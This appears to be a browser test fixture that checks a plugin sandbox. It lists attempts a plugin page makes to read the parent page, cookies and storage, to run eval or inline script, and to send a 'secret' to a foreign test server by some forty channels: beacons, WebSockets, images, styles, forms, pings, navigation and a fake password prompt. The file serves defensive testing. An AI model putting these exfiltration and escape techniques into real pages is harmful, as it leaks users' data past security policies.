/*
 * What a page of a plugin tries that it must not be able to do. Each attempt gets the address of the server around the page
 * (`api`), and one at a foreign server that is its own (`foreign`), which notes what it receives. It returns what it got
 * hold of; nothing, and an error, mean that it was refused.
 */

const stolen = (name) => `${name}?stolen=secret`;

/** Adds an element, and waits until it has loaded or failed. */
function add(tag, properties, parent = document.body) {
  return new Promise((resolve) => {
    const element = document.createElement(tag);
    element.onload = () => resolve(element);
    element.onerror = () => resolve(null);
    Object.assign(element, properties);
    parent.append(element);
    setTimeout(() => resolve(null), 1000);
  });
}

const addHtml = (html) => document.body.insertAdjacentHTML('beforeend', html);
const pause = (milliseconds) => new Promise((resolve) => setTimeout(resolve, milliseconds));

function opened(request) {
  return new Promise((resolve, reject) => {
    request.onsuccess = () => resolve(request.result);
    request.onerror = () => reject(request.error);
  });
}

function first(target, ...events) {
  return new Promise((resolve, reject) => {
    for (const name of events) target.addEventListener(name, resolve, { once: true });
    target.addEventListener('error', () => reject(new Error('refused')), { once: true });
    setTimeout(() => reject(new Error('nothing came')), 2000);
  });
}

/** What is around the page. */
export const surroundings = {
  'parent document': () => parent.document.body.textContent,
  'top document': () => top.document.title,
  'variable of the parent': () => parent.secret ?? parent.localStorage.length,
  'address of the top': () => top.location.href,
  'element of the frame': () => frameElement.outerHTML,
  'storage of the parent': () => parent.localStorage.getItem('secret') ?? parent.localStorage.length + 1,
  cookies: () => document.cookie,
  'writing a cookie': () => {
    // biome-ignore lint/suspicious/noDocumentCookie: what it tries
    document.cookie = 'planted=1; path=/';
    return document.cookie;
  },
  'cookie store': async () => (await cookieStore.getAll()).length,
  'local storage': () => {
    localStorage.planted = '1';
    return localStorage.planted;
  },
  'session storage': () => {
    sessionStorage.planted = '1';
    return sessionStorage.planted;
  },
  'indexed database': async () => (await opened(indexedDB.open('planted'))).name,
  caches: async () => String(await caches.open('planted')),
  'file system': async () => (await navigator.storage.getDirectory()).kind,
  'service worker': async () => (await navigator.serviceWorker.register('worker.js')).scope,
  worker: async () => (await first(new Worker('worker.js'), 'message')).data,
  'worker from a blob': async () =>
    (await first(new Worker(URL.createObjectURL(new Blob(["postMessage('it runs')"]))), 'message')).data,
  'shared worker': async () => {
    const { port } = new SharedWorker('worker.js');
    port.start();
    return 'it was made';
  },
};

/** Code that is not in a file of the page. */
export const code = {
  'inline script of the document': () =>
    document.getElementById('inline').textContent === 'nothing' ? undefined : 'it ran',
  'inline script': async () => {
    await add('script', { textContent: 'window.ran = 1' });
    return window.ran;
  },
  'inline handler': async () => {
    addHtml('<img src="data:," onerror="window.handled = 1">');
    await pause(200);
    return window.handled;
  },
  'address of JavaScript': async () => {
    const link = document.createElement('a');
    link.href = 'javascript:void (window.followed = 1)';
    link.click();
    await pause(200);
    return window.followed;
  },
  // biome-ignore lint/security/noGlobalEval: what it tries
  eval: () => globalThis.eval('1 + 1'),
  'function from a text': () => new Function('return 1')(),
  'timer with a text': async () => {
    setTimeout('window.timed = 1');
    await pause(200);
    return window.timed;
  },
  'script from data': async () => {
    await add('script', { src: 'data:text/javascript,window.fromData = 1' });
    return window.fromData;
  },
  'script from a blob': async () => {
    await add('script', { src: URL.createObjectURL(new Blob(['window.fromBlob = 1'], { type: 'text/javascript' })) });
    return window.fromBlob;
  },
  'module from data': async () => {
    const address = 'data:text/javascript,export const one = 1';
    return (await import(address)).one;
  },
  WebAssembly: async () =>
    String((await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]))).instance),
};

/** Requests to the server around the page. */
export const requests = {
  'fetch of the API': async ({ api }) => (await fetch(`${api}/api/v1/system/info`)).status,
  'fetch of a file of the page': async () => (await fetch('own.js')).status,
  'XMLHttpRequest to the API': async ({ api }) => {
    const request = new XMLHttpRequest();
    request.open('GET', `${api}/api/v1/system/info`);
    request.send();
    await first(request, 'load');
    return request.status;
  },
  'image of the console': async ({ api }) => (await add('img', { src: `${api}/icon.svg` }))?.naturalWidth,
  'script of the console': async ({ api }) => (await add('script', { src: `${api}/theme.js` }))?.src,
  'frame with the console': async ({ api }) => {
    const frame = await add('iframe', { src: `${api}/` });
    return frame?.contentDocument.body.textContent;
  },
};

/** Whatever reaches the foreign server. `foreign` is an address there. */
export const exfiltration = {
  fetch: ({ foreign }) => fetch(foreign),
  'fetch without CORS': ({ foreign }) => fetch(foreign, { mode: 'no-cors', method: 'POST', body: 'secret' }),
  'fetch that outlives the page': ({ foreign }) => fetch(foreign, { mode: 'no-cors', keepalive: true }),
  XMLHttpRequest: async ({ foreign }) => {
    const request = new XMLHttpRequest();
    request.open('GET', foreign);
    request.send();
    await first(request, 'load');
  },
  beacon: ({ foreign }) => void navigator.sendBeacon(foreign, 'secret'),
  WebSocket: ({ foreign }) => first(new WebSocket(foreign.replace('http', 'ws')), 'open'),
  EventSource: ({ foreign }) => first(new EventSource(foreign), 'open'),
  image: ({ foreign }) => add('img', { src: foreign }),
  'image of a set': ({ foreign }) => add('img', { srcset: foreign }),
  'image of an input': ({ foreign }) => add('input', { type: 'image', src: foreign }),
  'image of a style': ({ foreign }) => add('div', { style: `height: 9px; background: url(${foreign})` }),
  'image in SVG': ({ foreign }) => addHtml(`<svg><image href="${foreign}" width="9" height="9" /></svg>`),
  'poster of a video': ({ foreign }) => add('video', { poster: foreign }),
  video: ({ foreign }) => add('video', { src: foreign, preload: 'auto' }),
  audio: ({ foreign }) => add('audio', { src: foreign, preload: 'auto' }),
  stylesheet: ({ foreign }) => add('link', { rel: 'stylesheet', href: foreign }, document.head),
  'imported style': ({ foreign }) => add('style', { textContent: `@import '${foreign}';` }, document.head),
  font: async ({ foreign }) => void (await new FontFace('Foreign', `url(${foreign})`).load()),
  script: ({ foreign }) => add('script', { src: foreign }),
  'module script': ({ foreign }) => add('script', { type: 'module', src: foreign }),
  'dynamic import': async ({ foreign }) => void (await import(foreign)),
  frame: ({ foreign }) => add('iframe', { src: foreign }),
  'frame from a text': ({ foreign }) => add('iframe', { srcdoc: `<img src="${foreign}">` }),
  object: ({ foreign }) => add('object', { data: foreign }),
  embed: ({ foreign }) => add('embed', { src: foreign }),
  prefetch: ({ foreign }) => add('link', { rel: 'prefetch', href: foreign }, document.head),
  preload: ({ foreign }) => add('link', { rel: 'preload', as: 'image', href: foreign }, document.head),
  'preloaded module': ({ foreign }) => add('link', { rel: 'modulepreload', href: foreign }, document.head),
  'ping of a link': async ({ foreign }) => {
    const link = document.createElement('a');
    Object.assign(link, { href: '#', ping: foreign });
    document.body.append(link);
    link.click();
    await pause(300);
  },
  'form in another window': async ({ foreign }) => {
    addHtml(`<form action="${foreign}" target="_blank" method="post"><input name="d" value="secret"></form>`);
    document.forms[document.forms.length - 1].submit();
    await pause(300);
  },
  'pop-up': ({ foreign }) => void open(foreign),
};

/** What takes another document in the place of the page, or of the console. */
export const navigation = {
  'address of the page': ({ foreign }) => location.assign(foreign),
  'replaced address': ({ foreign }) => location.replace(foreign),
  'open in the same place': ({ foreign }) => void open(foreign, '_self'),
  'refresh of the document': ({ foreign }) => addHtml(`<meta http-equiv="refresh" content="0; url=${foreign}">`),
  link: ({ foreign }) => {
    addHtml(`<a id="leave" href="${foreign}">leave</a>`);
    document.getElementById('leave').click();
  },
  form: ({ foreign }) => {
    addHtml(`<form id="leaving" action="${foreign}"><input name="d" value="secret"></form>`);
    document.getElementById('leaving').submit();
  },
  'address of the top': ({ foreign }) => {
    top.location.href = foreign;
  },
  'address of the parent': ({ foreign }) => parent.location.replace(foreign),
  'link for the top': ({ foreign }) => {
    addHtml(`<a id="top" target="_top" href="${foreign}">leave</a>`);
    document.getElementById('top').click();
  },
  'form for the top': ({ foreign }) => {
    addHtml(`<form id="topmost" target="_top" action="${foreign}"><input name="d" value="secret"></form>`);
    document.getElementById('topmost').submit();
  },
  download: ({ foreign }) => {
    addHtml(`<a id="load" download="secret.txt" href="${foreign}">load</a>`);
    document.getElementById('load').click();
  },
};

/** What asks the user, or takes the screen: after a click, as browsers want it. */
export const gestures = {
  alert: () => alert('Sign in again'),
  confirm: () => void confirm('Sign in again'),
  prompt: () => void prompt('Your password'),
  'full screen': async () => {
    await document.documentElement.requestFullscreen();
    return 'it fills the screen';
  },
  'pointer lock': async () => {
    await document.body.requestPointerLock();
    return 'it has the pointer';
  },
  'writing the clipboard': async () => {
    await navigator.clipboard.writeText('planted');
    return 'it is written';
  },
  'reading the clipboard': async () => (await navigator.clipboard.readText()) || 'it was empty',
  position: async () =>
    await new Promise((resolve, reject) => {
      navigator.geolocation.getCurrentPosition(({ coords }) => resolve(coords.latitude), reject);
    }),
  'pop-up after a click': ({ foreign }) => (open(foreign) === null ? undefined : 'it is open'),
};

/** What no policy stops. */
export const left = {
  WebRTC: async () => {
    const connection = new RTCPeerConnection();
    connection.createDataChannel('data');
    await connection.setLocalDescription();
    return (await first(connection, 'icecandidate')).type;
  },
};

/** Whether the page can do what pages do. */
export const allowed = {
  'own style': () => getComputedStyle(document.querySelector('h1')).color,
  'own module': async () => (await import('./own.js')).own,
  'style of the document': async () => {
    addHtml('<p id="styled" style="color: rgb(4, 5, 6)">styled</p>');
    return getComputedStyle(document.getElementById('styled')).color;
  },
  'image from data': async () =>
    (
      await add('img', {
        src: "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' width='7' height='7'/>",
      })
    )?.naturalWidth,
};

const attempts = { surroundings, code, requests, exfiltration, navigation, gestures, left, allowed };

/** Runs attempts of a kind. @returns what each got hold of, or why it did not */
window.attempt = async (kind, names, { api, foreign }) => {
  // A test calls this in a way that allows `eval` until it returns.
  await pause(0);
  const outcomes = names.map(async (name) => {
    const address = `${foreign}/${stolen(encodeURIComponent(name))}`;
    try {
      const value = await attempts[kind][name]({ api, foreign: address });
      return [name, value === undefined || value === null || value === '' ? 'nothing' : `got ${value}`];
    } catch (error) {
      return [name, `refused: ${error}`];
    }
  });
  return Object.fromEntries(await Promise.all(outcomes));
};
window.namesOf = (kind) => Object.keys(attempts[kind]);

/** Runs an attempt at the next click of the button. */
window.onGesture = (name, places) =>
  new Promise((resolve) => {
    document.getElementById('gesture').onclick = () => resolve(window.attempt('gestures', [name], places));
  });

// Without the client of pages, which would keep to the rules.
window.greeted = new Promise((resolve) => {
  addEventListener('message', ({ data, ports }) => resolve({ data, port: ports[0] }), { once: true });
});
